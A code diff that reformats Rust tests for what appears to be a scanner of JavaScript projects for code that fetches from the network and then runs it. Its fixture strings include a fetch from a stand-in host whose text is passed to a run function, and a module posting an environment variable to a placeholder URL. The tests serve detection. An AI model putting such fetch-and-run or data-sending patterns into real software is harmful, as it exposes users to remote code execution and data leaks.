@@ -81,7 +81,11 @@ fn an_encoded_address_in_settings_is_shown_decoded() {
     };
     let cases = [
         (".env", format!("PORT=1\nAPI=\"{encoded}\"\n"), main("const address = process.env.API;")),
-        ("config.js", format!("module.exports = {{ api: '{encoded}' }};\n"), main("const address = require('./config').api;")),
+        (
+            "config.js",
+            format!("module.exports = {{ api: '{encoded}' }};\n"),
+            main("const address = require('./config').api;"),
+        ),
         ("config.json", format!("{{\"api\": \"{encoded}\"}}"), main("const address = require('./config.json').api;")),
     ];
     for (path, settings, main) in &cases {
@@ -108,7 +112,8 @@ fn honest_modules_make_no_chain() {
     let shows = "const { load } = require('./api');\nconst { render } = require('./render');\nload().then((d) => console.log(render(d)));\n";
     let post = "exports.post = (url, body) => fetch(url, { method: 'POST', body });\n";
     let port = "const { post } = require('./post');\npost('https://e.invalid/port', { port: process.env.PORT });\n";
-    let fetches = "exports.text = async () => (await fetch('https://e.invalid/x')).text();\nexports.name = () => 'x';\n";
+    let fetches =
+        "exports.text = async () => (await fetch('https://e.invalid/x')).text();\nexports.name = () => 'x';\n";
     let other = "const { text, name } = require('./fetches');\nconst { run } = require('./runs');\ntext().then(console.log);\nrun(name());\n";
     let local = "exports.text = async () => (await fetch('http://localhost:3000/x')).text();\n";
     let cases: [&[(&str, &str)]; 5] = [
@@ -145,7 +150,8 @@ fn specifiers_are_resolved_as_node_and_bundlers_do() {
         let (finding, _) = chain(&[(path, RUNS), (main_path, &main)], "js-fetch-to-code");
         assert_eq!(finding.path, path, "{specifier}");
     }
-    let main = "const { run } = require('./pkg');\nfetch('https://a.invalid/x').then((r) => r.text()).then((t) => run(t));\n";
+    let main =
+        "const { run } = require('./pkg');\nfetch('https://a.invalid/x').then((r) => r.text()).then((t) => run(t));\n";
     for (manifest, path) in [
         ("{\"main\": \"./code/entry\"}", "pkg/code/entry.js"),
         ("{\"exports\": {\".\": {\"require\": \"./dist/entry.js\"}}}", "pkg/src/entry.ts"),
